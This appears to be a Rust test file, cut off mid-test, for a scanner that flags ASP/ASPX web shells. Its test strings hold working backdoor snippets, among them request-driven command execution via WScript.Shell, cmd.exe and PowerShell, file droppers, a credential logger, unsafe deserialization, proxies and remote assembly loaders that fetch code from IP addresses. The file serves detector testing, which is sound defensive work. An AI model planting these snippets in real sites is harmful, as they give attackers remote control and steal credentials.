    let own = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n string d = Server.MapPath(\"~/App_Data/cache\");\n foreach (var f in Directory.GetFiles(d)) File.Delete(f);\n foreach (var s in Directory.GetDirectories(d)) Directory.Delete(s, true);\n File.Copy(Server.MapPath(\"~/App_Data/a.xml\"), Server.MapPath(\"~/App_Data/b.xml\"), true);\n File.Move(Server.MapPath(\"~/App_Data/b.xml\"), Server.MapPath(\"~/App_Data/c.xml\"));\n lbl.Text = Request[\"msg\"];\n}\n</script>\n";
    lacks(own, "EXRAY_File_Manager_Request");
    // a plug-in page that loads its own assembly and sorts a grid by a request value
    let plug = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var asm = System.Reflection.Assembly.LoadFrom(Server.MapPath(\"~/bin/Reports.dll\"));\n var p = typeof(Row).GetProperty(Request[\"sort\"]);\n grid.DataSource = rows.OrderBy(r => p.GetValue(r, null));\n}\n</script>\n";
    lacks(plug, "EXRAY_NET_Assembly_Load_Request_Path");
}

/// A page that reads its form and waits with a loopback `ping` through WScript.Shell (VBScript
/// has no sleep) runs nothing the caller chose (an application of the tenth look); a page that
/// runs what the request says is read, by the string rule and, where the flow is plain, the
/// data-flow rule; a page that waits and also runs a command is read.
#[test]
fn wscript_shell_needs_a_command_from_the_caller() {
    let sleep = "<%\nid = Trim(Request(\"id\"))\nfunction sleep(s)\n Set w = CreateObject(\"WScript.Shell\")\n c = \"%COMSPEC% /c ping -n \" & 1 + s & \" 127.0.0.1>nul\"\n w.Run c, 0, True\nEnd Function\nsleep(8)\nResponse.Write \"<script>self.close();</script>\"\n%>\n";
    assert!(hits(sleep).is_empty(), "{:?}", hits(sleep));
    let shell = "<%\nSet w = CreateObject(\"WScript.Shell\")\nc = Request.Form(\"c\")\nSet x = w.Exec(c)\nResponse.Write x.StdOut.ReadAll()\n%>\n";
    let h = hits(shell);
    assert!(
        h.contains("EXRAY_ASP_WScript_Shell_Exec") && h.contains("EXRAY_Request_Process_Flow"),
        "{h:?}"
    );
    let run = "<%\nSet w = CreateObject(\"WScript.Shell\")\nw.Run Request(\"p\"), 0, False\n%>\n";
    assert!(
        hits(run).contains("EXRAY_Request_Process_Flow"),
        "{:?}",
        hits(run)
    );
    let both = "<%\nSet w = CreateObject(\"WScript.Shell\")\nw.Run \"cmd.exe /k ping -n 3 127.0.0.1\", 0, True\nc = UploadRequest.Item(\"c\").Item(\"Value\")\nCall w.Run(c, 0, True)\n%>\n";
    assert!(
        hits(both).contains("EXRAY_ASP_WScript_Shell_Exec"),
        "{:?}",
        hits(both)
    );
}

/// Second read of stop 27, left then and done at stop 28.
#[test]
fn stop_28_left_from_the_second_read() {
    // a dead string holding a loopback ping above a call that builds its own command is no
    // wait; the wait that builds its ping on the call's line still is
    let dead = "<%\nd = \"ping -n 2 127.0.0.1\"\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c \" & k(x), 0, True\nx = Request(\"c\")\n%>\n";
    assert!(
        hits(dead).contains("EXRAY_ASP_WScript_Shell_Exec"),
        "{:?}",
        hits(dead)
    );
    let wait = "<%\nid = Request(\"id\")\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"%ComSpec% /c ping -n \" & n & \" 127.0.0.1 > nul\", 0, True\n%>\n";
    assert!(hits(wait).is_empty(), "{:?}", hits(wait));
    // a stager that fetches its assembly as base64 text
    let b64 = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var t = new System.Net.WebClient().DownloadString(\"http://198.51.100.7/a.txt\");\n var a = System.Reflection.Assembly.Load(Convert.FromBase64String(t));\n a.EntryPoint.Invoke(null, new object[] { new string[0] });\n}\n</script>\n";
    assert!(
        hits(b64).contains("EXRAY_NET_Remote_Assembly_Loader"),
        "{:?}",
        hits(b64)
    );
    // a page that reads a feed as text and loads a formatter by a configured name is no stager
    let feed = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var t = new System.Net.WebClient().DownloadString(feedUrl);\n var img = Convert.FromBase64String(Request.Form[\"logo\"]);\n var f = Activator.CreateInstance(Type.GetType(cfg.Formatter));\n}\n</script>\n";
    lacks(feed, "EXRAY_NET_Remote_Assembly_Loader");
}

/// Variants written at stop 28 by a second reader: VB.NET's typed declarations carry the
/// request as untyped ones do; VB's `Interaction.Shell`, `<WebMethod()>` services, PowerShell's
/// `RunspaceInvoke`, `My.Computer.FileSystem` writes and `File.AppendAllText` loggers.
#[test]
fn stop_28_vb_net_and_other_hosts() {
    has(
        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n Dim cs As String = Request.Form(\"cs\")\n Dim q As String = Request.Form(\"q\")\n Dim cn As New System.Data.SqlClient.SqlConnection(cs)\n cn.Open()\n Dim cmd As New System.Data.SqlClient.SqlCommand(q, cn)\n Dim r = cmd.ExecuteReader()\nEnd Sub\n</script>\n",
        "EXRAY_SQL_Console_Flow",
    );
    has(
        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n Dim c As String = Request.QueryString(\"c\")\n Microsoft.VisualBasic.Interaction.Shell(\"cmd.exe /c \" & c, AppWinStyle.Hide, True)\nEnd Sub\n</script>\n",
        "EXRAY_Request_Process_Flow",
    );
    has(
        "<%@ WebService Language=\"VB\" Class=\"Svc\" %>\nImports System.Web.Services\nPublic Class Svc\n <WebMethod()> Public Function Run(ByVal f As String, ByVal a As String) As String\n  Dim p As New System.Diagnostics.Process()\n  p.StartInfo.FileName = \"cmd.exe\"\n  p.StartInfo.Arguments = \"/c \" & a\n  p.StartInfo.RedirectStandardOutput = True\n  p.Start()\n  Return p.StandardOutput.ReadToEnd()\n End Function\nEnd Class\n",
        "EXRAY_NET_Process_Start_Cmd",
    );
    has(
        "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Management.Automation\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n RunspaceInvoke ri = new RunspaceInvoke();\n foreach (var o in ri.Invoke(Request.Form[\"ps\"])) Response.Write(o);\n}\n</script>\n",
        "EXRAY_NET_PowerShell_Runspace",
    );
    has(
        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n My.Computer.FileSystem.WriteAllText(Request(\"f\"), Request(\"t\"), False)\nEnd Sub\n</script>\n",
        "EXRAY_File_Writer_Request",
    );
    has(
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string u = Request.Form[\"username\"], p = Request.Form[\"password\"];\n System.IO.File.AppendAllText(@\"C:\\inetpub\\logs\\x.css\", u + \":\" + p + \"\\r\\n\");\n}\n</script>\n",
        "EXRAY_Credential_Logger",
    );
    // deserializers fed through a name, or called by their other names
    for page in [
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string v = Request.Form[\"__VSTATE\"];\n if (v != null) new System.Web.UI.ObjectStateFormatter().Deserialize(v);\n}\n</script>\n",
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var b = Convert.FromBase64String(Request.Headers[\"X-D\"]);\n var n = new System.Runtime.Serialization.NetDataContractSerializer();\n n.ReadObject(new System.IO.MemoryStream(b));\n}\n</script>\n",
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n System.Windows.Markup.XamlReader.Parse(Request.Form[\"x\"]);\n}\n</script>\n",
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string body = new System.IO.StreamReader(Request.InputStream).ReadToEnd();\n var o = JsonConvert.DeserializeObject(body, new JsonSerializerSettings { TypeNameHandling = TypeNameHandling.All });\n}\n</script>\n",
    ] {
        has(page, "EXRAY_NET_Deserialize_Request_Flow");
    }
    // an application's own cache file, and JSON without type names, are not
    for page in [
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string q = Request.QueryString[\"q\"];\n using (var f = System.IO.File.OpenRead(Server.MapPath(\"~/App_Data/cache.bin\"))) { var c = new BinaryFormatter().Deserialize(f); }\n lbl.Text = q;\n}\n</script>\n",
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var o = new JavaScriptSerializer().Deserialize<Dictionary<string, object>>(Request.Form[\"j\"]);\n}\n</script>\n",
        // WebForms' compressed view state, and JSON type names set for output only
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected override object LoadPageStateFromPersistenceMedium() {\n byte[] b = Decompress(Convert.FromBase64String(Request.Form[\"__VSTATE\"]));\n return new LosFormatter().Deserialize(Convert.ToBase64String(b));\n}\n</script>\n",
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext ctx) {\n  var outSettings = new JsonSerializerSettings { TypeNameHandling = TypeNameHandling.Objects };\n  string body = new System.IO.StreamReader(ctx.Request.InputStream).ReadToEnd();\n  var o = JsonConvert.DeserializeObject<Order>(body);\n  ctx.Response.Write(JsonConvert.SerializeObject(o, outSettings));\n }\n public bool IsReusable { get { return false; } }\n}\n",
    ] {
        let h = hits(page);
        assert!(
            !h.contains("EXRAY_NET_Deserialize_Request")
                && !h.contains("EXRAY_NET_Deserialize_Request_Flow"),
            "{h:?}"
        );
    }
    // a handler's request through its context, and the request object held in a name
    for page in [
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext ctx) {\n  var o = new BinaryFormatter().Deserialize(ctx.Request.InputStream);\n }\n public bool IsReusable { get { return false; } }\n}\n",
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  HttpRequest req = context.Request;\n  var f = new BinaryFormatter();\n  f.Deserialize(req.InputStream);\n }\n public bool IsReusable { get { return false; } }\n}\n",
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n using (var ms = new System.IO.MemoryStream(Convert.FromBase64String(Request.Form[\"d\"]))) {\n  new BinaryFormatter().Deserialize(ms);\n }\n}\n</script>\n",
    ] {
        let h = hits(page);
        assert!(
            h.contains("EXRAY_NET_Deserialize_Request")
                || h.contains("EXRAY_NET_Deserialize_Request_Flow"),
            "{h:?} for {page}"
        );
    }
    // proxies whose method is a name, or whose request object is HttpWebRequest's
    for page in [
        "<%\nu = Request(\"url\")\nm = Request.ServerVariables(\"REQUEST_METHOD\")\nSet h = Server.CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nh.Open m, u, False\nh.Send\nResponse.BinaryWrite h.ResponseBody\n%>\n",
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string url = Request.QueryString[\"url\"];\n var w = (HttpWebRequest)HttpWebRequest.Create(url);\n using (var r = new System.IO.StreamReader(w.GetResponse().GetResponseStream())) Response.Write(r.ReadToEnd());\n}\n</script>\n",
    ] {
        has(page, "EXRAY_HTTP_Proxy_Request_Url");
    }
    // RunspaceInvoke on one line
    has(
        "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Management.Automation\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n foreach (var o in new RunspaceInvoke().Invoke(Request.Form[\"c\"])) Response.Write(o);\n}\n</script>\n",
        "EXRAY_NET_PowerShell_Runspace",
    );
    // a login page that logs failed user names is no credential logger
    let audit = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Login(object s, EventArgs e) {\n string user = Request.Form[\"user\"], pw = Request.Form[\"password\"];\n if (!Check(user, pw)) System.IO.File.AppendAllText(Server.MapPath(\"~/App_Data/failed.log\"), DateTime.Now + \" \" + user + \"\\r\\n\");\n}\n</script>\n";
    lacks(audit, "EXRAY_Credential_Logger");
    // a sleep whose ping is in a name and whose call appends a redirect runs no caller command
    let sleep = "<%\nx = Request(\"id\")\nSet ws = CreateObject(\"WScript.Shell\")\ncmd = \"%comspec% /c ping -n 3 127.0.0.1\"\nws.Run cmd & \" > nul\", 0, True\n%>\n";
    lacks(sleep, "EXRAY_ASP_WScript_Shell_Exec");
    // a live read after a quote inside a string still counts; JScript's ' opens no comment
    let apos = "<%\nResponse.Write \"<form method='post'>\" : p = Request.Form(\"p\")\nResponse.Write \"<input name='c'>\" : c = Request.Form(\"c\")\n\
        Set fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.CreateTextFile(p, True)\nf.Write c\n%>\n";
    has(apos, "EXRAY_File_Writer_Variable_Path");
    let js = "<%@ Language=\"JScript\" %>\n<%\nvar fso = Server.CreateObject('Scripting.FileSystemObject');\nvar f = fso.CreateTextFile(Server.MapPath(\"x.asp\"), true); var t = 'x'; f.Write(Request.Form(\"c\"));\n%>\n";
    has(js, "EXRAY_Script_Page_Writer_Request");
    let cs = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n char q = '\\''; var w = new System.IO.StreamWriter(Server.MapPath(\"x.aspx\")); w.Write(Request.Form[\"c\"]); w.Close();\n}\n</script>\n";
    has(cs, "EXRAY_Script_Page_Writer_Request");
    // WScript.Shell driven by name
    has(
        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n Dim o As Object = Server.CreateObject(\"WScript.Shell\")\n Dim x As Object = CallByName(o, \"Exec\", CallType.Method, \"cmd /c \" & Request(\"c\"))\n Response.Write(x.StdOut.ReadAll())\nEnd Sub\n</script>\n",
        "EXRAY_ASP_WScript_Shell_Exec",
    );
    has(
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var t = Type.GetTypeFromCLSID(new Guid(\"72C24DD5-D70A-438B-8A42-98424B88AFB8\"));\n var o = Activator.CreateInstance(t);\n t.InvokeMember(\"Run\", System.Reflection.BindingFlags.InvokeMethod, null, o, new object[] { \"cmd /c \" + Request[\"c\"], 0 });\n}\n</script>\n",
        "EXRAY_ASP_WScript_Shell_Exec",
    );
    // a typed declaration of the page's own value carries nothing
    let own = "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n Dim n As String = Request.Form(\"name\")\n Dim c As String = ConfigurationManager.AppSettings(\"tool\")\n System.Diagnostics.Process.Start(c)\n lbl.Text = n\nEnd Sub\n</script>\n";
    lacks(own, "EXRAY_Request_Process_Flow");
}

/// From the twelfth look at applications: lines a developer commented out read and write
/// nothing; a server probe names `.exec()` in a literal to test an object and runs nothing; a
/// browser script's XMLHTTP fetches nothing on the server.
#[test]
fn stop_28_application_look() {
    // an export page with its request reads commented out writes its own file
    let export = "<%\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nfilename = Server.MapPath(\"order.xls\")\n\
        set myfile = fs.CreateTextFile(filename, true)\n'StartTime = Request(\"StartTime\")\n'EndTime = Request(\"EndTime\")\n\
        Set rs = conn.Execute(\"SELECT * FROM t\")\nDo While Not rs.EOF\n myfile.writeline rs(0)\n rs.MoveNext\nLoop\n%>\n";
    assert!(hits(export).is_empty(), "{:?}", hits(export));
    let writer = "<%\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nf = Request(\"f\")\nc = Request(\"c\")\n\
        set o = fs.CreateTextFile(f, true)\n'old = Request(\"old\")\no.write c\n%>\n";
    assert!(
        hits(writer).contains("EXRAY_File_Writer_Variable_Path"),
        "{:?}",
        hits(writer)
    );
    // a generator whose request read and page write are commented out
    let generator = "<%\n'urls=request(\"urls\")\nHtml = \"<p>\" & Now() & \"</p>\"\n\
        'set f=fso.CreateTextFile( server.mappath( \"index_c.asp\" ), true,true )\n'f.WriteLine( Html )\n\
        Set s = Server.CreateObject(\"ADODB.Stream\")\ns.Open\ns.WriteText = Html\ns.SaveToFile Server.MapPath(\"/index_c.htm\"), 2\n%>\n";
    lacks(generator, "EXRAY_Script_Page_Writer_Request");
    let dropper = "<%\n' writes the page\nset f=fso.CreateTextFile( server.mappath( \"x.asp\" ), true )\nf.Write Request(\"c\")\nf.close\n%>\n";
    assert!(
        hits(dropper).contains("EXRAY_Script_Page_Writer_Request"),
        "{:?}",
        hits(dropper)
    );
    // a probe that tests objects by name runs no command
    let probe = "<%\nFunction okObj(n)\n On Error Resume Next\n okObj = True\n Execute n & \".exec()\"\n If 429 = Err Then okObj = False\nEnd Function\n\
        x = Request(\"T\")\n%>\n<object runat=\"server\" id=\"ws\" progid=\"WScript.Shell\"></object>\n<p>WScript.Shell <%=okObj(\"ws\")%></p>\n";
    lacks(probe, "EXRAY_ASP_WScript_Shell_Exec");
    // a browser script's XMLHTTP on a page that reads a unit `u`
    let ajax = "<%\nunidade = Request.QueryString(\"u\")\nResponse.Write unidade\n%>\n<script>\nfunction x() {\n var a = new ActiveXObject(\"Microsoft.XMLHTTP\");\n a.open(\"GET\", \"lista.asp?u=\" + u, true);\n}\n</script>\n";
    assert!(hits(ajax).is_empty(), "{:?}", hits(ajax));
    let relay = "<%\nu = Request(\"url\")\nSet h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", u, False\nh.Send\nResponse.BinaryWrite h.ResponseBody\n%>\n";
    assert!(
        hits(relay).contains("EXRAY_HTTP_Proxy_Request_Url"),
        "{:?}",
        hits(relay)
    );
}

/// A server-variable loop a developer commented out prints nothing; the same loop as a
/// statement after `:` or on its own line does.
#[test]
fn server_variables_dump_is_a_statement() {
    let commented = "<%\nSub Check()\n  'Dim name\n  'For Each name In Request.ServerVariables\n  '  Response.Write name & \" = \" & Request.ServerVariables(name) & \"<br>\"\n  'Next\nEnd Sub\n%>\n";
    assert!(hits(commented).is_empty(), "{:?}", hits(commented));
    let rem = "<%\nRem For Each n In Request.ServerVariables: Response.Write n: Next\n%>\n";
    assert!(hits(rem).is_empty(), "{:?}", hits(rem));
    let live = "<%\nDim n: For Each n In Request.ServerVariables\n Response.Write n & \"=\" & Request.ServerVariables(n) & \"<br>\"\nNext\n%>\n";
    assert!(
        hits(live).contains("EXRAY_ASP_ServerVariables_Dump"),
        "{:?}",
        hits(live)
    );
}

/// A monitoring page that pings its own list of sites and prints its verdict pages below (some
/// 2 KB) is no command page; one that writes what it read, right there, is. A database helper's
/// `DataSource.Exec(cmdErrors)` next to request reads starts no process.
#[test]
fn command_pages_write_the_output_they_read() {
    let filler = "<tr><td>status of the site</td></tr>\n".repeat(60);
    let monitor = format!(
        "<%\nSet sh = CreateObject(\"WScript.Shell\")\nFor x = 0 To 3\n Set e = sh.Exec(\"ping -n 1 -w 1000 \" & sites(x))\n r = LCase(e.StdOut.ReadAll)\n If InStr(r, \"reply from\") > 0 Then ok(x) = True\nNext\n%>\n{filler}<% For x = 0 To 3: Response.Write sites(x) & \": \" & ok(x): Next %>\n"
    );
    assert!(hits(&monitor).is_empty(), "{:?}", hits(&monitor));
    let shown = "<%\nSet sh = CreateObject(\"WScript.Shell\")\nSet e = sh.Exec(\"ipconfig /all\")\nr = e.StdOut.ReadAll\n%>\n<pre><% Response.Write r %></pre>\n";
    assert!(
        hits(shown).contains("EXRAY_ASP_Command_Output_Page"),
        "{:?}",
        hits(shown)
    );
    let helper = "<%\nSet Recordset = DataSource.Exec(cmdErrors)\nid = Request.QueryString(\"id\")\nCall BuildCmd)\n%>\n";
    assert!(hits(helper).is_empty(), "{:?}", hits(helper));
}

/// A demo page that reads the image the query names (`OpenTextFile(p, ForReading)`) and streams
/// it with `Response.Write` writes no file; the small writer that opens the named file for
/// appending does.
#[test]
fn variable_path_writer_needs_a_file_opened_for_writing() {
    let reader = "<%\nsrc = Request.QueryString(\"SRC\")\nfirst = Request.QueryString(\"FirstHex\")\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile(src, 1)\nd = f.ReadAll\nResponse.Write(d)\n%>\n";
    // (reading the path the caller sent is still a file-read finding of its own)
    let found = hits(reader);
    assert!(
        !found.contains("EXRAY_File_Writer_Variable_Path"),
        "{found:?}"
    );
    assert!(found.contains("EXRAY_File_Op_Request_Path"), "{found:?}");
    let writer = "<%\np = Request.Form(\"p\")\nc = Request.Form(\"c\")\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile(p, 8, True)\nf.Write(c)\nf.Close\n%>\n";
    assert!(
        hits(writer).contains("EXRAY_File_Writer_Variable_Path"),
        "{:?}",
        hits(writer)
    );
}

/// Obfuscated vendor code is not a shell for being obfuscated: a JSON library whose literals are
/// spelled in character codes evaluates `arr(i)` (`Eval(ChrW(97)&ChrW(114)&ChrW(114)&ChrW(40) & i
/// & ChrW(41))`), writes Chinese characters as negative codes and has a client-side `eval`; the
/// same page running a long run of codes, or a name built from them, is read.
#[test]
fn character_codes_run_only_as_code() {
    let json = "<%\nSet c = CreateObject(ChrW(83)&ChrW(99)&ChrW(114)&ChrW(105)&ChrW(112)&ChrW(116)&ChrW(105)&ChrW(110)&ChrW(103))\nt = ChrW(-20319)&ChrW(-2)\nk = ChrW(116)&ChrW(121)&ChrW(112)&ChrW(101) : n = (34*34-1156)\nFunction Item(i)\n Item = toJSON(Eval(ChrW(97)&ChrW(114)&ChrW(114)&ChrW(40) & i & ChrW(41)))\nEnd Function\n%>\n<script>function p(str){ eval(\"var _temp=(\" + str + \");\"); return _temp; }</script>\n";
    assert!(hits(json).is_empty(), "{:?}", hits(json));
    let long = "<%\nExecute(Chr(101)&Chr(118)&Chr(97)&Chr(108)&Chr(32)&Chr(114)&Chr(101)&Chr(113)&Chr(117)&Chr(101)&Chr(115)&Chr(116)&Chr(40)&Chr(34)&Chr(120)&Chr(34)&Chr(41))\n%>\n";
    assert!(
        hits(long).contains("EXRAY_ASP_Chr_Assembled_Execute"),
        "{:?}",
        hits(long)
    );
    let named = "<%\nc = Chr(101)&Chr(118)&Chr(97)&Chr(108)&Chr(32)&Chr(114)\nc = c & Chr(101)&Chr(113)\nEval(c)\n%>\n";
    assert!(
        hits(named).contains("EXRAY_ASP_Chr_Assembled_Execute"),
        "{:?}",
        hits(named)
    );
}

/// Second read of stop 27: each narrowing above still reads the shells of its kind written
/// another way, and the two new rules stay off pages and binaries that only name their calls.
#[test]
fn stop_27_second_read() {
    // a loopback ping in a comment does not make the page's one command a wait
    has(
        "<%\nc = Request(\"c\")\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"%ComSpec% /q /c \" & c & \" > o.txt\", 0, True ' then ping -n 1 127.0.0.1\n%>\n",
        "EXRAY_ASP_WScript_Shell_Exec",
    );
    // nor a ping that the request's command follows on its line
    has(
        "<%\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"%ComSpec% /c ping -n 1 127.0.0.1 & \" & Request(\"c\"), 0, True\n%>\n",
        "EXRAY_ASP_WScript_Shell_Exec",
    );
    // character codes evaluated through a name VBScript's way
    let codes: String = "CreateObject(\"WScript.Shell\").Run(Request(\"c\"))"
        .bytes()
        .map(|b| format!("Chr({b})"))
        .collect::<Vec<_>>()
        .join("&");
    for call in ["Eval(c & \"\")", "Eval c", "Eval(Trim(c))"] {
        has(
            &format!("<%\nc = {codes}\nx = {call}\n%>\n"),
            "EXRAY_ASP_Chr_Assembled_Execute",
        );
    }
    // arithmetic three parentheses deep inside Chr
    has(
        "<%\nFunction d(s)\n For i = 1 To Len(s) Step 3\n  r = r & Chr((CInt(Mid(s, i, 3)) - 7))\n Next\n d = r\nEnd Function\nExecute d(\"108115122\")\n%>\n",
        "EXRAY_ASP_Execute_Decoder",
    );
    // a writing mode passed through a constant
    has(
        "<%\np = Request.Form(\"p\")\nc = Request.Form(\"c\")\nConst W = 2\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile(p, W, True)\nf.Write c\nf.Close\n%>\n",
        "EXRAY_File_Writer_Variable_Path",
    );
    // the output written a few hundred bytes below
    let rows = "<tr><td>status</td></tr>\n".repeat(20);
    has(
        &format!("<%\nSet s = Server.CreateObject(\"WScript.Shell\")\nSet e = s.Exec(\"whoami\")\no = e.StdOut.ReadAll\n%>\n{rows}<% Response.Write o %>\n"),
        "EXRAY_ASP_Command_Output_Page",
    );
    // a server-variable loop in a page with bare CR line ends
    has(
        "<%\rDim n\rFor Each n In Request.ServerVariables\r Response.Write n & \"=\" & Request.ServerVariables(n)\rNext\r%>\r",
        "EXRAY_ASP_ServerVariables_Dump",
    );
    // an assembly fetched from a URL by LoadFrom
    has(
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { var a = System.Reflection.Assembly.UnsafeLoadFrom(\"http://10.0.0.5/x.dll\"); a.EntryPoint.Invoke(null, null); }\n</script>\n",
        "EXRAY_NET_Remote_Assembly_Loader",
    );
    // not a feed handler that loads its own formatter by name
    let feed = "<%@ WebHandler Language=\"C#\" Class=\"Feed\" %>\nusing System.Net; using System.Reflection;\npublic class Feed : IHttpHandler {\n public void ProcessRequest(HttpContext ctx) {\n  var req = (HttpWebRequest)WebRequest.Create(feedUrl);\n  using (var s = req.GetResponse().GetResponseStream()) {\n   var t = Assembly.Load(\"App.Formatters\").GetType(\"App.Formatters.Rss\");\n   dynamic f = Activator.CreateInstance(t);\n   ctx.Response.Write(f.Format(s));\n  }\n }\n}\n";
    assert!(hits(feed).is_empty(), "{:?}", hits(feed));
    // not an article that names the injection calls, nor a DLL that imports them
    let doc = "<%@ Page Language=\"C#\" %>\n<asp:Content runat=\"server\"><p>Injection calls OpenProcess, VirtualAllocEx and WriteProcessMemory, then CreateRemoteThread.</p></asp:Content>\n";
    assert!(hits(doc).is_empty(), "{:?}", hits(doc));
    let dll = "MZ\u{90}\0<%DllImport VirtualAllocEx WriteProcessMemory CreateRemoteThread";
    assert!(hits(dll).is_empty(), "{:?}", hits(dll));
}

/// Stop 30: names joined after the site root's path, process APIs imported by P/Invoke, a
/// stylesheet under a copy's name, xp_cmdshell of a bound parameter, spaced verbatim names, the
/// Function constructor reached through a function.
#[test]
fn stop_30_new_kinds() {
    // a name joined after the site root's MapPath, and the last part of a Path.Combine on it
    for page in [
        "<%@ Page Language=\"C#\" %>\n<% System.IO.File.WriteAllText(Server.MapPath(\"/\") + Request[\"n\"], Request[\"c\"]); %>\n",
        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nSystem.IO.File.WriteAllText(System.IO.Path.Combine(Server.MapPath(\"~/\"), n), Request.Form[\"b\"]); %>\n",
        "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.CreateTextFile(Server.MapPath(\".\") & \"\\\" & Request(\"n\"), True)\nf.Write Request(\"c\")\nf.Close\n%>\n",
    ] {
        has(page, "EXRAY_File_Dropper_Flow");
    }
    // a folder of the site's own with the caller's name, the text encoded: no dropper
    let folder = "<%@ Page Language=\"C#\" %>\n<% var t = Request.Form[\"t\"];\nSystem.IO.File.WriteAllText(Server.MapPath(\"~/notes/\") + Request.Form[\"n\"] + \".txt\", Server.HtmlEncode(t)); %>\n";
    lacks(folder, "EXRAY_File_Dropper_Flow");
    // a process API imported under a name of the page's own, and shell32's ShellExecute
    has(
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"kernel32\", EntryPoint = \"WinExec\")]\nstatic extern int Launch(string line, int show);\nvoid Page_Load(object s, EventArgs e) {\n  string c = Request.QueryString[\"x\"];\n  if (c != null) Launch(\"cmd.exe /c \" + c, 0);\n}\n</script>\n",
        "EXRAY_Request_Process_Flow",
    );
    has(
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"shell32.dll\")]\nstatic extern IntPtr ShellExecute(IntPtr h, string op, string file, string args, string dir, int show);\nvoid Page_Load(object s, EventArgs e) {\n  ShellExecute(IntPtr.Zero, \"open\", \"cmd.exe\", \"/c \" + Request[\"a\"], null, 0);\n}\n</script>\n",
        "EXRAY_Request_Process_Flow",
    );
    has(
        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nDeclare Function Go Lib \"kernel32\" Alias \"WinExec\" (ByVal l As String, ByVal s As Integer) As Integer\nSub Page_Load()\n  Go(\"cmd /c \" & Request(\"c\"), 0)\nEnd Sub\n</script>\n",
        "EXRAY_Request_Process_Flow",
    );
    // the same import run on a fixed command
    let fixed = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"kernel32\", EntryPoint = \"WinExec\")]\nstatic extern int Launch(string line, int show);\nvoid Page_Load(object s, EventArgs e) {\n  Launch(\"C:\\\\tools\\\\reindex.exe\", 0);\n  Response.Write(Server.HtmlEncode(Request[\"q\"]));\n}\n</script>\n";
    lacks(fixed, "EXRAY_Request_Process_Flow");
    // the stylesheet document passed to transformNode under a copy's name
    has(
        "<%\nSet a = Server.CreateObject(\"MSXML2.DOMDocument\")\na.loadXML Request.Form(\"s\")\nSet b = a\nSet d = Server.CreateObject(\"MSXML2.DOMDocument\")\nd.loadXML \"<r/>\"\nResponse.Write d.transformNode(b)\n%>\n",
        "EXRAY_XSLT_Request_Stylesheet",
    );
    // xp_cmdshell of a parameter the caller fills, and of one the page fills itself
    has(
